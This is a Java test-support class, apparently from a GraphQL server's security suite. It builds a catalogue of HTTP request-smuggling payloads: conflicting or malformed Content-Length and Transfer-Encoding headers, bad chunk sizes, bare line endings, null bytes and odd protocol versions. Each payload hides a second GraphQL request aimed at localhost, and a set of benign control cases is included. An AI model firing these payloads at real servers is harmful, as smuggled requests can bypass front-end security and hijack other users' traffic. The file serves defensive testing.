package io.orgraph.attack;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Requests that two readers cut in different places, each with a second one behind or inside of it. */
final class Smuggling {
    private static final String QUERY = "{\"query\":\"{ organizations { nodes { workspaces { totalCount } } } }\"}";
    private static final String HEAD =
            "POST /graphql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n";
    private static final String SECOND =
            HEAD + "Connection: close\r\nContent-Length: " + QUERY.length() + "\r\n\r\n" + QUERY;
    private static final String CHUNKED = "Transfer-Encoding: chunked\r\n";

    private Smuggling() {}

    /** By what they try. */
    static Map<String, String> heads() {
        Map<String, String> all = new LinkedHashMap<>();
        lengths(all);
        encodings(all);
        lines(all);
        versions(all);
        return all;
    }

    /** By what they try. */
    static Map<String, String> bodies() {
        Map<String, String> all = new LinkedHashMap<>();
        chunks(all);
        return all;
    }

    /** Two requests that everybody cuts in the same place, although the first looks odd. */
    static Map<String, String> sound() {
        Map<String, String> all = new LinkedHashMap<>();
        String folded = "X: a\r\n Transfer-Encoding: chunked\r\n";
        all.put("nothing", head("Content-Length: 2\r\n") + "{}" + SECOND);
        all.put("a folded header", head(folded + "Content-Length: 2\r\n") + "{}" + SECOND);
        all.put("a length in the trailer", head(CHUNKED) + "2\r\n{}\r\n0\r\nContent-Length: 9\r\n\r\n" + SECOND);
        all.put("an extension of a chunk", head(CHUNKED) + "2;a=\"0\"\r\n{}\r\n0;b\r\n\r\n" + SECOND);
        return all;
    }

    private static void lengths(Map<String, String> all) {
        all.put("two lengths", head("Content-Length: 2\r\nContent-Length: 3\r\n") + "{}" + SECOND);
        all.put("two lengths in one", head("Content-Length: 2, 3\r\n") + "{}" + SECOND);
        all.put("a negative length", head("Content-Length: -2\r\n") + SECOND);
        all.put("a length with a plus", head("Content-Length: +2\r\n") + "{}" + SECOND);
        all.put("a length in hexadecimal", head("Content-Length: 0x2\r\n") + "{}" + SECOND);
        all.put("a length that runs over", head("Content-Length: 18446744073709551618\r\n") + "{}" + SECOND);
        all.put("a length with a blank inside", head("Content-Length: 1 2\r\n") + "{}" + SECOND);
        all.put("an empty length", head("Content-Length: \r\n") + SECOND);
        all.put("a length of other digits", head("Content-Length: \u00b2\r\n") + "{}" + SECOND);
    }

    private static void encodings(Map<String, String> all) {
        String end = "0\r\n\r\n" + SECOND;
        all.put("a length and chunks", head("Content-Length: 5\r\n" + CHUNKED) + end);
        all.put("chunks and a length", head(CHUNKED + "Content-Length: 5\r\n") + end);
        all.put("chunks in HTTP/1.0", head(CHUNKED).replace("HTTP/1.1", "HTTP/1.0") + end);
        all.put("chunked twice", head(CHUNKED + CHUNKED) + end);
        all.put("chunked, then something else", head("Transfer-Encoding: chunked, identity\r\n") + end);
        all.put("an encoding that nobody knows", head("Transfer-Encoding: xchunked\r\n") + end);
        all.put("compressed, then chunked", head("Transfer-Encoding: gzip, chunked\r\n") + end);
        all.put("as it is, then chunked", head("Transfer-Encoding: identity, chunked\r\n") + end);
        all.put("compressed and chunked in two headers", head("Transfer-Encoding: gzip\r\n" + CHUNKED) + end);
        all.put("a list of nothing and chunked", head("Transfer-Encoding: , chunked\r\n") + end);
        all.put("chunked behind a tab and a control", head("Transfer-Encoding: \u000bchunked\r\n") + end);
        all.put(
                "chunked and a length in quotes",
                head("Transfer-Encoding: \"chunked\"\r\nContent-Length: 5\r\n") + end);
        all.put("a blank before the colon", head("Transfer-Encoding : chunked\r\nContent-Length: 5\r\n") + end);
    }

    private static void chunks(Map<String, String> all) {
        all.put("a negative chunk", head(CHUNKED) + "-1\r\n{}\r\n0\r\n\r\n" + SECOND);
        all.put("a chunk that runs over", head(CHUNKED) + "10000000000000002\r\n{}\r\n0\r\n\r\n" + SECOND);
        all.put("a chunk of 0x2", head(CHUNKED) + "0x2\r\n{}\r\n0\r\n\r\n" + SECOND);
        all.put("a chunk longer than it says", head(CHUNKED) + "1\r\n{}\r\n0\r\n\r\n" + SECOND);
        all.put("a bare line feed in a chunk's extension", head(CHUNKED) + "2;a\nx\r\n{}\r\n0\r\n\r\n" + SECOND);
        all.put("a bare line feed after a chunk's size", head(CHUNKED) + "2\n{}\r\n0\r\n\r\n" + SECOND);
        all.put("a bare line feed after a chunk", head(CHUNKED) + "2\r\n{}\n0\r\n\r\n" + SECOND);
        all.put("a zero in a chunk's size", head(CHUNKED) + "2\u0000\r\n{}\r\n0\r\n\r\n" + SECOND);
    }

    private static void lines(Map<String, String> all) {
        all.put("a bare line feed in the head", head("X: a\nContent-Length: 2\r\n") + "{}" + SECOND);
        all.put(
                "a bare carriage return in the head",
                head("X: a\rContent-Length: 2\r\nContent-Length: 0\r\n") + SECOND);
        all.put("a control byte in front", "\u0001" + SECOND + SECOND);
        all.put("a zero in a header", head("X: a\u0000b\r\nContent-Length: 0\r\n") + SECOND);
        all.put("a header without a name", head(": x\r\nContent-Length: 0\r\n") + SECOND);
        all.put("a blank first header", HEAD.replace("Host", " Host") + "Content-Length: 0\r\n\r\n" + SECOND);
        all.put(
                "a third word in the first line",
                "POST /graphql HTTP/1.1 HTTP/1.1\r\nContent-Length: 0\r\n\r\n" + SECOND);
    }

    private static void versions(Map<String, String> all) {
        for (String version : List.of("HTTP/9.9", "HTTP/2.0", "HTTP/1.2", "HTTP/0.9", "HTTP/11.1", "ICY/1.1")) {
            all.put(version, head("Content-Length: 2\r\n").replace("HTTP/1.1", version) + "{}" + SECOND);
        }
    }

    private static String head(String headers) {
        return HEAD + headers + "\r\n";
    }
}
